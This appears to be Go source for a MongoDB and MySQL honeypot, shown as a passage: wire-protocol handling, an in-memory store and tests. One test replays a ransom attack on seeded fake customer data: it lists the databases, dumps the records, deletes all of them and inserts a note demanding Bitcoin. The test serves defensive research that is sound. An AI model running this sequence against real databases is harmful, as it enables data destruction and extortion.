		m.t.Fatal(err)
	}
	reply, err := ReadMessage(m.br)
	if err != nil {
		m.t.Fatalf("read reply: %v", err)
	}
	return reply.Body
}

func seedStore() *Store {
	s := NewStore()
	s.Insert("customers", "records",
		bson.D{{Key: "_id", Val: int32(1)}, {Key: "name", Val: "Amber Duke"}, {Key: "card", Val: "4532-1111"}},
		bson.D{{Key: "_id", Val: int32(2)}, {Key: "name", Val: "Hattie Bond"}, {Key: "card", Val: "4532-2222"}},
	)
	return s
}

func TestHandshakeCommands(t *testing.T) {
	hp := New(seedStore())
	hptest.Run(t, hp.Handler(), mongoInfo(), func(t *testing.T, conn net.Conn) {
		cl := newMongoClient(t, conn)
		hello := cl.run(bson.D{{Key: "isMaster", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		if v, _ := hello.Lookup("ismaster"); v != true {
			t.Fatalf("isMaster = %v", hello)
		}
		bi := cl.run(bson.D{{Key: "buildInfo", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		if bi.Str("version") != Version {
			t.Fatalf("buildInfo version = %q", bi.Str("version"))
		}
		ping := cl.run(bson.D{{Key: "ping", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		if ping.Int("ok") != 1 {
			t.Fatalf("ping = %v", ping)
		}
	})
}

// TestRansomAttackSequence exercises the paper's Section 6.3 data-theft
// attack end to end: enumerate, dump, wipe, drop a ransom note.
func TestRansomAttackSequence(t *testing.T) {
	hp := New(seedStore())
	events := hptest.Run(t, hp.Handler(), mongoInfo(), func(t *testing.T, conn net.Conn) {
		cl := newMongoClient(t, conn)
		dbs := cl.run(bson.D{{Key: "listDatabases", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		arr, _ := dbs.Lookup("databases")
		if len(arr.(bson.A)) != 1 {
			t.Fatalf("listDatabases = %v", dbs)
		}
		colls := cl.run(bson.D{{Key: "listCollections", Val: int32(1)}, {Key: "$db", Val: "customers"}})
		batch, _ := colls.Doc("cursor").Lookup("firstBatch")
		if len(batch.(bson.A)) != 1 {
			t.Fatalf("listCollections = %v", colls)
		}
		dump := cl.run(bson.D{{Key: "find", Val: "records"}, {Key: "$db", Val: "customers"}})
		docs, _ := dump.Doc("cursor").Lookup("firstBatch")
		if len(docs.(bson.A)) != 2 {
			t.Fatalf("dump = %v", dump)
		}
		del := cl.run(bson.D{
			{Key: "delete", Val: "records"},
			{Key: "deletes", Val: bson.A{bson.D{{Key: "q", Val: bson.D{}}, {Key: "limit", Val: int32(0)}}}},
			{Key: "$db", Val: "customers"},
		})
		if del.Int("n") != 2 {
			t.Fatalf("delete = %v", del)
		}
		note := bson.D{{Key: "content", Val: "All your data is backed up. You must pay 0.0058 BTC"}}
		ins := cl.run(bson.D{
			{Key: "insert", Val: "README"},
			{Key: "documents", Val: bson.A{note}},
			{Key: "$db", Val: "customers"},
		})
		if ins.Int("n") != 1 {
			t.Fatalf("insert = %v", ins)
		}
	})
	// Store state: data gone, ransom note present.
	if n := hp.Store().Count("customers", "records", nil); n != 0 {
		t.Fatalf("records left = %d", n)
	}
	if n := hp.Store().Count("customers", "README", nil); n != 1 {
		t.Fatalf("ransom notes = %d", n)
	}
	cmds := hptest.Commands(events)
	want := []string{"LISTDATABASES", "LISTCOLLECTIONS", "FIND", "DELETE", "INSERT"}
	if !reflect.DeepEqual(cmds, want) {
		t.Fatalf("commands = %v, want %v", cmds, want)
	}
}

func TestOpQueryLegacyPath(t *testing.T) {
	hp := New(seedStore())
	hptest.Run(t, hp.Handler(), mongoInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		// Legacy isMaster via OP_QUERY on admin.$cmd.
		q, err := EncodeQuery(1, "admin.$cmd", bson.D{{Key: "ismaster", Val: int32(1)}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := conn.Write(q); err != nil {
			t.Fatal(err)
		}
		// OP_REPLY: parse header + skip to document.
		var hdr [16]byte
		if _, err := io.ReadFull(br, hdr[:]); err != nil {
			t.Fatal(err)
		}
		// total length then the rest of the reply.
		total := int(uint32(hdr[0]) | uint32(hdr[1])<<8 | uint32(hdr[2])<<16 | uint32(hdr[3])<<24)
		rest := make([]byte, total-16)
		if _, err := io.ReadFull(br, rest); err != nil {
			t.Fatal(err)
		}
		// responseFlags(4) cursorID(8) startingFrom(4) numberReturned(4).
		doc, err := bson.Unmarshal(rest[20:])
		if err != nil {
			t.Fatal(err)
		}
		if v, _ := doc.Lookup("ismaster"); v != true {
			t.Fatalf("legacy isMaster = %v", doc)
		}
	})
}

func TestWireRejectsOversized(t *testing.T) {
	var buf bytes.Buffer
	buf.Write([]byte{0xff, 0xff, 0xff, 0x7f, 0, 0, 0, 0, 0, 0, 0, 0, 0xdd, 0x07, 0, 0})
	if _, err := ReadMessage(&buf); err == nil {
		t.Fatal("oversized message accepted")
	}
}

func TestUnknownCommand(t *testing.T) {
	hp := New(NewStore())
	hptest.Run(t, hp.Handler(), mongoInfo(), func(t *testing.T, conn net.Conn) {
		cl := newMongoClient(t, conn)
		resp := cl.run(bson.D{{Key: "weirdCmd", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		if resp.Int("ok") != 0 || resp.Str("codeName") != "CommandNotFound" {
			t.Fatalf("unknown command reply = %v", resp)
		}
	})
}

func TestAuthAttemptLogged(t *testing.T) {
	hp := New(NewStore())
	events := hptest.Run(t, hp.Handler(), mongoInfo(), func(t *testing.T, conn net.Conn) {
		cl := newMongoClient(t, conn)
		resp := cl.run(bson.D{{Key: "saslStart", Val: int32(1)}, {Key: "mechanism", Val: "SCRAM-SHA-1"}, {Key: "$db", Val: "admin"}})
		if resp.Str("codeName") != "AuthenticationFailed" {
			t.Fatalf("saslStart reply = %v", resp)
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "AUTH" {
		t.Fatalf("commands = %v", cmds)
	}
}
