package mongo

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"

	"decoydb/internal/bson"
	"decoydb/internal/core"
)

// Version the honeypot advertises: a 4.0-era server, the vintage of the
// great unauthenticated-MongoDB ransom waves.
const Version = "4.0.28"

// Honeypot is the high-interaction MongoDB honeypot over a real in-memory
// store. Seed the store with fake data before serving.
type Honeypot struct {
	store *Store
}

// New returns a MongoDB honeypot backed by store (or a fresh one if nil).
func New(store *Store) *Honeypot {
	if store == nil {
		store = NewStore()
	}
	return &Honeypot{store: store}
}

// Store exposes the backing document store.
func (h *Honeypot) Store() *Store { return h.store }

// Handler returns a core.Handler bound to this honeypot.
func (h *Honeypot) Handler() core.Handler {
	return core.HandlerFunc(h.HandleConn)
}

// HandleConn serves one client connection.
func (h *Honeypot) HandleConn(ctx context.Context, conn net.Conn, s *core.Session) error {
	s.Connect()
	br := bufio.NewReaderSize(conn, 32768)
	bw := bufio.NewWriterSize(conn, 32768)
	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		msg, err := ReadMessage(br)
		if err != nil {
			if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
				return nil
			}
			s.Command("PROTOCOL-ERROR", err.Error())
			return nil
		}
		switch msg.Header.OpCode {
		case OpQuery:
			if err := h.handleQuery(bw, msg, s); err != nil {
				return err
			}
		case OpMsg:
			if err := h.handleMsg(bw, msg, s); err != nil {
				return err
			}
		}
		if err := bw.Flush(); err != nil {
			return err
		}
	}
}

func (h *Honeypot) handleQuery(w io.Writer, msg Message, s *core.Session) error {
	db, coll, isCmd := splitNS(msg.Collection)
	if isCmd {
		reply := h.command(db, msg.Query, s)
		return WriteReply(w, msg.Header.RequestID, reply)
	}
	// Legacy find on db.coll.
	s.Command("FIND", msg.Collection)
	docs := h.store.Find(db, coll, msg.Query, 101)
	if len(docs) == 0 {
		return WriteReply(w, msg.Header.RequestID)
	}
	return WriteReply(w, msg.Header.RequestID, docs...)
}

func (h *Honeypot) handleMsg(w io.Writer, msg Message, s *core.Session) error {
	db := msg.Body.Str("$db")
	if db == "" {
		db = "admin"
	}
	reply := h.command(db, msg.Body, s)
	return WriteMsgReply(w, msg.Header.RequestID, reply)
}

// command executes one database command against the store and logs the
// normalised action.
func (h *Honeypot) command(db string, cmd bson.D, s *core.Session) bson.D {
	name := cmd.CommandName()
	action := strings.ToUpper(name)
	raw := fmt.Sprintf("db=%s cmd=%s", db, name)
	switch strings.ToLower(name) {
	case "ismaster", "hello":
		s.Command("ISMASTER", raw)
		return helloDoc()
	case "ping":
		s.Command("PING", raw)
		return ok()
	case "buildinfo":
		s.Command("BUILDINFO", raw)
		return append(bson.D{
			{Key: "version", Val: Version},
			{Key: "gitVersion", Val: "af1a9dc12adcfa83cc19571cb3faba26eeddac92"},
			{Key: "modules", Val: bson.A{}},
			{Key: "sysInfo", Val: "deprecated"},
			{Key: "bits", Val: int32(64)},
			{Key: "maxBsonObjectSize", Val: int32(16 * 1024 * 1024)},
		}, ok()...)
	case "serverstatus":
		s.Command("SERVERSTATUS", raw)
		return append(bson.D{
			{Key: "host", Val: "db-prod-01"},
			{Key: "version", Val: Version},
			{Key: "process", Val: "mongod"},
			{Key: "uptime", Val: float64(86400 * 17)},
		}, ok()...)
	case "getlog":
		s.Command("GETLOG", raw)
		return append(bson.D{
			{Key: "totalLinesWritten", Val: int32(2)},
			{Key: "log", Val: bson.A{
				"** WARNING: Access control is not enabled for the database.",
				"** WARNING: Read and write access to data and configuration is unrestricted.",
			}},
		}, ok()...)
	case "listdatabases":
		s.Command("LISTDATABASES", raw)
		var dbs bson.A
		var total int64
		for _, d := range h.store.Databases() {
			size := h.store.SizeOf(d)
			total += size
			dbs = append(dbs, bson.D{
				{Key: "name", Val: d},
				{Key: "sizeOnDisk", Val: float64(size)},
				{Key: "empty", Val: size == 0},
			})
		}
		return append(bson.D{
			{Key: "databases", Val: dbs},
			{Key: "totalSize", Val: float64(total)},
		}, ok()...)
	case "listcollections":
		s.Command("LISTCOLLECTIONS", raw)
		var colls bson.A
		for _, c := range h.store.Collections(db) {
			colls = append(colls, bson.D{
				{Key: "name", Val: c},
				{Key: "type", Val: "collection"},
				{Key: "options", Val: bson.D{}},
				{Key: "info", Val: bson.D{{Key: "readOnly", Val: false}}},
			})
		}
		return cursorReply(db+".$cmd.listCollections", colls)
	case "find":
		coll := cmd.Str("find")
		s.Command("FIND", raw+" coll="+coll)
		filter := cmd.Doc("filter")
		limit := int(cmd.Int("limit"))
		docs := h.store.Find(db, coll, filter, limit)
		batch := make(bson.A, len(docs))
		for i, d := range docs {
			batch[i] = d
		}
		return cursorReply(db+"."+coll, batch)
	case "getmore":
		s.Command("GETMORE", raw)
		return append(bson.D{
			{Key: "cursor", Val: bson.D{
				{Key: "id", Val: int64(0)},
				{Key: "ns", Val: db + ".coll"},
				{Key: "nextBatch", Val: bson.A{}},
			}},
		}, ok()...)
	case "count":
		coll := cmd.Str("count")
		s.Command("COUNT", raw+" coll="+coll)
		n := h.store.Count(db, coll, cmd.Doc("query"))
		return append(bson.D{{Key: "n", Val: int32(n)}}, ok()...)
	case "aggregate":
		coll := cmd.Str("aggregate")
		s.Command("AGGREGATE", raw+" coll="+coll)
		docs := h.store.Find(db, coll, nil, 0)
		batch := make(bson.A, len(docs))
		for i, d := range docs {
			batch[i] = d
		}
		return cursorReply(db+"."+coll, batch)
	case "insert":
		coll := cmd.Str("insert")
		n := 0
		excerpt := ""
		if docsv, ok := cmd.Lookup("documents"); ok {
			if arr, ok := docsv.(bson.A); ok {
				for _, d := range arr {
					if doc, ok := d.(bson.D); ok {
						h.store.Insert(db, coll, doc)
						if n == 0 {
							excerpt = docExcerpt(doc)
						}
						n++
					}
				}
			}
		}
		// The excerpt matters forensically: ransom campaigns identify
		// themselves by the note they insert (paper Listings 7–8).
		s.Command("INSERT", raw+" coll="+coll+" doc="+excerpt)
		return append(bson.D{{Key: "n", Val: int32(n)}}, ok()...)
	case "delete":
		coll := cmd.Str("delete")
		s.Command("DELETE", raw+" coll="+coll)
		n := 0
		if dv, ok := cmd.Lookup("deletes"); ok {
			if arr, ok := dv.(bson.A); ok {
				for _, d := range arr {
					if del, ok := d.(bson.D); ok {
						n += h.store.Delete(db, coll, del.Doc("q"))
					}
				}
			}
		}
		return append(bson.D{{Key: "n", Val: int32(n)}}, ok()...)
	case "drop":
		coll := cmd.Str("drop")
		s.Command("DROP", raw+" coll="+coll)
		if !h.store.DropCollection(db, coll) {
			return errReply(26, "NamespaceNotFound", "ns not found")
		}
		return append(bson.D{{Key: "ns", Val: db + "." + coll}}, ok()...)
	case "dropdatabase":
		s.Command("DROPDATABASE", raw)
		h.store.DropDatabase(db)
		return append(bson.D{{Key: "dropped", Val: db}}, ok()...)
	case "saslstart", "authenticate", "logout":
		s.Command("AUTH", raw)
		return errReply(18, "AuthenticationFailed", "Authentication failed.")
	case "whatsmyuri":
		s.Command("WHATSMYURI", raw)
		return append(bson.D{{Key: "you", Val: "172.17.0.1:48210"}}, ok()...)
	case "endsessions", "getfreemonitoringstatus", "getparameter", "connectionstatus":
		s.Command(action, raw)
		return ok()
	case "shutdown":
		s.Command("SHUTDOWN", raw)
		return errReply(13, "Unauthorized", "shutdown requires authentication")
	default:
		s.Command(action, raw)
		return errReply(59, "CommandNotFound", "no such command: '"+name+"'")
	}
}

func ok() bson.D { return bson.D{{Key: "ok", Val: float64(1)}} }

// docExcerpt renders the string fields of doc compactly for the session
// log, bounded well under core.MaxRawCapture.
func docExcerpt(doc bson.D) string {
	var b strings.Builder
	for _, e := range doc {
		if s, ok := e.Val.(string); ok {
			if b.Len() > 0 {
				b.WriteByte(' ')
			}
			b.WriteString(e.Key)
			b.WriteByte('=')
			b.WriteString(s)
			if b.Len() > 512 {
				break
			}
		}
	}
	return b.String()
}

func errReply(code int32, codeName, msg string) bson.D {
	return bson.D{
		{Key: "ok", Val: float64(0)},
		{Key: "errmsg", Val: msg},
		{Key: "code", Val: code},
		{Key: "codeName", Val: codeName},
	}
}

func cursorReply(ns string, batch bson.A) bson.D {
	if batch == nil {
		batch = bson.A{}
	}
	return append(bson.D{
		{Key: "cursor", Val: bson.D{
			{Key: "id", Val: int64(0)},
			{Key: "ns", Val: ns},
			{Key: "firstBatch", Val: batch},
		}},
	}, ok()...)
}

func helloDoc() bson.D {
	return append(bson.D{
		{Key: "ismaster", Val: true},
		{Key: "maxBsonObjectSize", Val: int32(16 * 1024 * 1024)},
		{Key: "maxMessageSizeBytes", Val: int32(48000000)},
		{Key: "maxWriteBatchSize", Val: int32(100000)},
		{Key: "logicalSessionTimeoutMinutes", Val: int32(30)},
		{Key: "minWireVersion", Val: int32(0)},
		{Key: "maxWireVersion", Val: int32(7)},
		{Key: "readOnly", Val: false},
	}, ok()...)
}

func splitNS(ns string) (db, coll string, isCmd bool) {
	i := strings.IndexByte(ns, '.')
	if i < 0 {
		return ns, "", false
	}
	db, coll = ns[:i], ns[i+1:]
	return db, coll, coll == "$cmd"
}
