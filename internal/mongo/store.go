package mongo

import (
	"sort"
	"sync"

	"decoydb/internal/bson"
)

// Store is the in-memory document store behind the high-interaction
// honeypot: databases of collections of ordered BSON documents. It
// implements just enough query semantics for real attack tooling — full
// dumps, _id / field-equality filters, deletes, drops, inserts — which is
// exactly the repertoire of the ransom campaigns the paper observed.
type Store struct {
	mu  sync.RWMutex
	dbs map[string]map[string][]bson.D
}

// NewStore returns an empty store.
func NewStore() *Store {
	return &Store{dbs: make(map[string]map[string][]bson.D)}
}

// Insert appends docs to db.coll, creating both as needed.
func (s *Store) Insert(db, coll string, docs ...bson.D) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	c, ok := s.dbs[db]
	if !ok {
		c = make(map[string][]bson.D)
		s.dbs[db] = c
	}
	c[coll] = append(c[coll], docs...)
	return len(docs)
}

// Find returns the documents of db.coll matching filter (nil/empty filter
// matches all). Matching is top-level field equality, which covers what
// dump tooling sends.
func (s *Store) Find(db, coll string, filter bson.D, limit int) []bson.D {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var out []bson.D
	for _, doc := range s.dbs[db][coll] {
		if matches(doc, filter) {
			out = append(out, doc)
			if limit > 0 && len(out) >= limit {
				break
			}
		}
	}
	return out
}

// Count reports how many documents in db.coll match filter.
func (s *Store) Count(db, coll string, filter bson.D) int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	n := 0
	for _, doc := range s.dbs[db][coll] {
		if matches(doc, filter) {
			n++
		}
	}
	return n
}

// Delete removes matching documents and reports how many were removed.
func (s *Store) Delete(db, coll string, filter bson.D) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	docs, ok := s.dbs[db][coll]
	if !ok {
		return 0
	}
	kept := docs[:0]
	removed := 0
	for _, doc := range docs {
		if matches(doc, filter) {
			removed++
			continue
		}
		kept = append(kept, doc)
	}
	s.dbs[db][coll] = kept
	return removed
}

// DropCollection removes db.coll entirely.
func (s *Store) DropCollection(db, coll string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	c, ok := s.dbs[db]
	if !ok {
		return false
	}
	if _, ok := c[coll]; !ok {
		return false
	}
	delete(c, coll)
	return true
}

// DropDatabase removes db entirely.
func (s *Store) DropDatabase(db string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.dbs[db]; !ok {
		return false
	}
	delete(s.dbs, db)
	return true
}

// Databases returns the sorted database names.
func (s *Store) Databases() []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]string, 0, len(s.dbs))
	for db := range s.dbs {
		out = append(out, db)
	}
	sort.Strings(out)
	return out
}

// Collections returns the sorted collection names of db.
func (s *Store) Collections(db string) []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	c := s.dbs[db]
	out := make([]string, 0, len(c))
	for coll := range c {
		out = append(out, coll)
	}
	sort.Strings(out)
	return out
}

// SizeOf reports a rough byte size of db (for listDatabases).
func (s *Store) SizeOf(db string) int64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var n int64
	for _, docs := range s.dbs[db] {
		for _, d := range docs {
			n += int64(16 * len(d)) // rough; listDatabases sizes are advisory
		}
	}
	return n
}

func matches(doc, filter bson.D) bool {
	for _, f := range filter {
		switch f.Key {
		case "$query":
			if sub, ok := f.Val.(bson.D); ok {
				if !matches(doc, sub) {
					return false
				}
				continue
			}
		case "$orderby", "$comment":
			continue
		}
		v, ok := doc.Lookup(f.Key)
		if !ok || !valueEq(v, f.Val) {
			return false
		}
	}
	return true
}

func valueEq(a, b any) bool {
	switch x := a.(type) {
	case string:
		y, ok := b.(string)
		return ok && x == y
	case int32, int64, float64:
		return numOf(a) == numOf(b)
	case bool:
		y, ok := b.(bool)
		return ok && x == y
	case bson.ObjectID:
		y, ok := b.(bson.ObjectID)
		return ok && x == y
	case nil:
		return b == nil
	}
	return false
}

func numOf(v any) float64 {
	switch n := v.(type) {
	case int32:
		return float64(n)
	case int64:
		return float64(n)
	case float64:
		return n
	}
	return 0
}
