package mongo

import (
	"bufio"
	"io"
	"net"
	"testing"

	"decoydb/internal/bson"
	"decoydb/internal/hptest"
)

// TestCommandSurface covers the remaining command dispatch paths.
func TestCommandSurface(t *testing.T) {
	hp := New(seedStore())
	hptest.Run(t, hp.Handler(), mongoInfo(), func(t *testing.T, conn net.Conn) {
		cl := newMongoClient(t, conn)

		if r := cl.run(bson.D{{Key: "hello", Val: int32(1)}, {Key: "$db", Val: "admin"}}); r.Int("ok") != 1 {
			t.Errorf("hello = %v", r)
		}
		if r := cl.run(bson.D{{Key: "serverStatus", Val: int32(1)}, {Key: "$db", Val: "admin"}}); r.Str("version") != Version {
			t.Errorf("serverStatus = %v", r)
		}
		if r := cl.run(bson.D{{Key: "getLog", Val: "startupWarnings"}, {Key: "$db", Val: "admin"}}); r.Int("ok") != 1 {
			t.Errorf("getLog = %v", r)
		} else if v, _ := r.Lookup("log"); len(v.(bson.A)) == 0 {
			t.Error("getLog empty (the access-control warning is the honeypot's bait)")
		}
		if r := cl.run(bson.D{{Key: "count", Val: "records"}, {Key: "$db", Val: "customers"}}); r.Int("n") != 2 {
			t.Errorf("count = %v", r)
		}
		agg := cl.run(bson.D{{Key: "aggregate", Val: "records"}, {Key: "pipeline", Val: bson.A{}}, {Key: "$db", Val: "customers"}})
		if batch, _ := agg.Doc("cursor").Lookup("firstBatch"); len(batch.(bson.A)) != 2 {
			t.Errorf("aggregate = %v", agg)
		}
		if r := cl.run(bson.D{{Key: "getMore", Val: int64(0)}, {Key: "$db", Val: "customers"}}); r.Int("ok") != 1 {
			t.Errorf("getMore = %v", r)
		}
		if r := cl.run(bson.D{{Key: "whatsmyuri", Val: int32(1)}, {Key: "$db", Val: "admin"}}); r.Str("you") == "" {
			t.Errorf("whatsmyuri = %v", r)
		}
		if r := cl.run(bson.D{{Key: "endSessions", Val: bson.A{}}, {Key: "$db", Val: "admin"}}); r.Int("ok") != 1 {
			t.Errorf("endSessions = %v", r)
		}
		if r := cl.run(bson.D{{Key: "shutdown", Val: int32(1)}, {Key: "$db", Val: "admin"}}); r.Str("codeName") != "Unauthorized" {
			t.Errorf("shutdown = %v", r)
		}
		// find with filter and limit.
		found := cl.run(bson.D{
			{Key: "find", Val: "records"},
			{Key: "filter", Val: bson.D{{Key: "name", Val: "Amber Duke"}}},
			{Key: "limit", Val: int32(1)},
			{Key: "$db", Val: "customers"},
		})
		if batch, _ := found.Doc("cursor").Lookup("firstBatch"); len(batch.(bson.A)) != 1 {
			t.Errorf("filtered find = %v", found)
		}
		// drop of a missing collection errors like real mongod.
		if r := cl.run(bson.D{{Key: "drop", Val: "nope"}, {Key: "$db", Val: "customers"}}); r.Str("codeName") != "NamespaceNotFound" {
			t.Errorf("drop missing = %v", r)
		}
		if r := cl.run(bson.D{{Key: "drop", Val: "records"}, {Key: "$db", Val: "customers"}}); r.Int("ok") != 1 {
			t.Errorf("drop = %v", r)
		}
		if r := cl.run(bson.D{{Key: "dropDatabase", Val: int32(1)}, {Key: "$db", Val: "customers"}}); r.Str("dropped") != "customers" {
			t.Errorf("dropDatabase = %v", r)
		}
	})
}

// TestOpMsgDocumentSequence exercises the kind-1 section path modern
// drivers use for bulk inserts.
func TestOpMsgDocumentSequence(t *testing.T) {
	hp := New(NewStore())
	hptest.Run(t, hp.Handler(), mongoInfo(), func(t *testing.T, conn net.Conn) {
		// Hand-build an OP_MSG: body section (kind 0) + "documents"
		// sequence section (kind 1) with two documents.
		body := bson.MustMarshal(bson.D{{Key: "insert", Val: "c"}, {Key: "$db", Val: "db"}})
		doc1 := bson.MustMarshal(bson.D{{Key: "a", Val: int32(1)}})
		doc2 := bson.MustMarshal(bson.D{{Key: "b", Val: int32(2)}})
		seq := []byte("documents\x00")
		seqLen := 4 + len(seq) + len(doc1) + len(doc2)

		payload := []byte{0, 0, 0, 0} // flagBits
		payload = append(payload, 0)  // kind 0
		payload = append(payload, body...)
		payload = append(payload, 1) // kind 1
		payload = append(payload, byte(seqLen), byte(seqLen>>8), byte(seqLen>>16), byte(seqLen>>24))
		payload = append(payload, seq...)
		payload = append(payload, doc1...)
		payload = append(payload, doc2...)

		total := 16 + len(payload)
		frame := []byte{byte(total), byte(total >> 8), byte(total >> 16), byte(total >> 24),
			1, 0, 0, 0, 0, 0, 0, 0, 0xdd, 0x07, 0, 0}
		frame = append(frame, payload...)
		if _, err := conn.Write(frame); err != nil {
			t.Fatal(err)
		}
		reply, err := ReadMessage(newReader(conn))
		if err != nil {
			t.Fatal(err)
		}
		if reply.Body.Int("n") != 2 {
			t.Fatalf("sequence insert n = %v", reply.Body)
		}
	})
	// Both documents landed in the store? (hp captured above)
}

func TestLegacyFindEmptyAndMatch(t *testing.T) {
	hp := New(seedStore())
	hptest.Run(t, hp.Handler(), mongoInfo(), func(t *testing.T, conn net.Conn) {
		// OP_QUERY against a collection with a matching filter.
		q, err := EncodeQuery(1, "customers.records", bson.D{{Key: "name", Val: "Amber Duke"}})
		if err != nil {
			t.Fatal(err)
		}
		conn.Write(q)
		br := newReader(conn)
		if _, err := readReplyDocs(br); err != nil {
			t.Fatal(err)
		}
		// And against an empty collection.
		q2, _ := EncodeQuery(2, "customers.empty", bson.D{})
		conn.Write(q2)
		if _, err := readReplyDocs(br); err != nil {
			t.Fatal(err)
		}
	})
}

func TestStoreValueEqBranches(t *testing.T) {
	s := NewStore()
	oid := bson.ObjectID{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}
	s.Insert("db", "c",
		bson.D{{Key: "oid", Val: oid}, {Key: "b", Val: true}, {Key: "n", Val: nil}, {Key: "f", Val: 2.5}},
		bson.D{{Key: "oid", Val: bson.ObjectID{9}}, {Key: "b", Val: false}, {Key: "f", Val: int32(2)}},
	)
	if got := s.Find("db", "c", bson.D{{Key: "oid", Val: oid}}, 0); len(got) != 1 {
		t.Fatalf("oid filter = %d", len(got))
	}
	if got := s.Find("db", "c", bson.D{{Key: "b", Val: true}}, 0); len(got) != 1 {
		t.Fatalf("bool filter = %d", len(got))
	}
	if got := s.Find("db", "c", bson.D{{Key: "n", Val: nil}}, 0); len(got) != 1 {
		t.Fatalf("null filter = %d", len(got))
	}
	// Cross-numeric equality: float 2.5 vs int32 2 differ; int32 2 matches 2.0.
	if got := s.Find("db", "c", bson.D{{Key: "f", Val: float64(2)}}, 0); len(got) != 1 {
		t.Fatalf("numeric filter = %d", len(got))
	}
	// Mismatched types never match.
	if got := s.Find("db", "c", bson.D{{Key: "b", Val: "true"}}, 0); len(got) != 0 {
		t.Fatalf("type-confused filter = %d", len(got))
	}
	// $orderby is ignored, not matched.
	if got := s.Find("db", "c", bson.D{{Key: "$orderby", Val: bson.D{}}}, 0); len(got) != 2 {
		t.Fatalf("$orderby filter = %d", len(got))
	}
}

// Helpers shared by the OP_QUERY tests.
func newReader(conn net.Conn) *bufio.Reader { return bufio.NewReader(conn) }

// readReplyDocs reads one OP_REPLY and returns its documents.
func readReplyDocs(br *bufio.Reader) ([]bson.D, error) {
	var hdr [16]byte
	if _, err := io.ReadFull(br, hdr[:]); err != nil {
		return nil, err
	}
	total := int(uint32(hdr[0]) | uint32(hdr[1])<<8 | uint32(hdr[2])<<16 | uint32(hdr[3])<<24)
	rest := make([]byte, total-16)
	if _, err := io.ReadFull(br, rest); err != nil {
		return nil, err
	}
	rest = rest[20:] // responseFlags + cursorID + startingFrom + numberReturned
	var docs []bson.D
	for len(rest) > 0 {
		n, err := bson.DocLen(rest)
		if err != nil {
			return nil, err
		}
		d, err := bson.Unmarshal(rest[:n])
		if err != nil {
			return nil, err
		}
		docs = append(docs, d)
		rest = rest[n:]
	}
	return docs, nil
}
