package mysql

import (
	"bytes"
	"testing"

	"decoydb/internal/wire"
)

func TestParseHandshakeRejectsGarbage(t *testing.T) {
	if _, err := ParseHandshake(nil); err == nil {
		t.Fatal("empty handshake accepted")
	}
	if _, err := ParseHandshake([]byte{0x09, 'x', 0}); err == nil {
		t.Fatal("wrong protocol version accepted")
	}
	// Valid start, truncated mid-salt.
	h := Handshake{Version: "8.0", ThreadID: 1}
	full := h.Encode()
	if _, err := ParseHandshake(full[:12]); err == nil {
		t.Fatal("truncated handshake accepted")
	}
}

// TestLoginRequestLenencAuth exercises the CLIENT_PLUGIN_AUTH_LENENC_DATA
// capability path, including multi-byte length-encoded integers.
func TestLoginRequestLenencAuth(t *testing.T) {
	auth := make([]byte, 300) // forces the 0xfc two-byte lenenc prefix
	for i := range auth {
		auth[i] = byte(i)
	}
	caps := uint32(CapLongPassword | CapProtocol41 | CapSecureConnection |
		CapPluginAuth | CapPluginAuthLenencData)
	w := wire.NewWriter(64)
	w.Uint32LE(caps)
	w.Uint32LE(1 << 24)
	w.Uint8(0x21)
	w.Zeros(23)
	w.CString("sa")
	w.Uint8(0xfc).Uint16LE(uint16(len(auth)))
	w.Raw(auth)
	w.CString("mysql_native_password")
	lr, err := ParseLoginRequest(w.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if lr.User != "sa" || !bytes.Equal(lr.AuthData, auth) {
		t.Fatalf("lenenc parse = %+v", lr)
	}
}

func TestLoginRequestNulTerminatedAuth(t *testing.T) {
	// Pre-secure-connection capability: auth data is NUL-terminated.
	caps := uint32(CapLongPassword | CapProtocol41)
	w := wire.NewWriter(64)
	w.Uint32LE(caps)
	w.Uint32LE(1 << 24)
	w.Uint8(0x21)
	w.Zeros(23)
	w.CString("olduser")
	w.CString("plainpass")
	lr, err := ParseLoginRequest(w.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if lr.User != "olduser" || string(lr.AuthData) != "plainpass" {
		t.Fatalf("nul-terminated parse = %+v", lr)
	}
}

func TestReadLenencWidths(t *testing.T) {
	cases := []struct {
		in   []byte
		want uint64
	}{
		{[]byte{0x7b}, 123},
		{[]byte{0xfc, 0x34, 0x12}, 0x1234},
		{[]byte{0xfd, 0x56, 0x34, 0x12}, 0x123456},
		{[]byte{0xfe, 1, 0, 0, 0, 0, 0, 0, 0}, 1},
	}
	for _, c := range cases {
		got, err := readLenenc(wire.NewReader(c.in))
		if err != nil || got != c.want {
			t.Errorf("readLenenc(% x) = %d, %v; want %d", c.in, got, err, c.want)
		}
	}
	if _, err := readLenenc(wire.NewReader([]byte{0xfb})); err == nil {
		t.Error("0xfb prefix accepted")
	}
	if _, err := readLenenc(wire.NewReader(nil)); err == nil {
		t.Error("empty lenenc accepted")
	}
}

func TestHexAuth(t *testing.T) {
	if got := HexAuth(nil); got != "" {
		t.Fatalf("HexAuth(nil) = %q", got)
	}
	if got := HexAuth([]byte{0xde, 0xad}); got != "sha1:dead" {
		t.Fatalf("HexAuth = %q", got)
	}
}

func TestAuthSwitchRequestShape(t *testing.T) {
	p := AuthSwitchRequest("mysql_clear_password", []byte{1, 2})
	if p[0] != 0xfe {
		t.Fatalf("marker = %#x", p[0])
	}
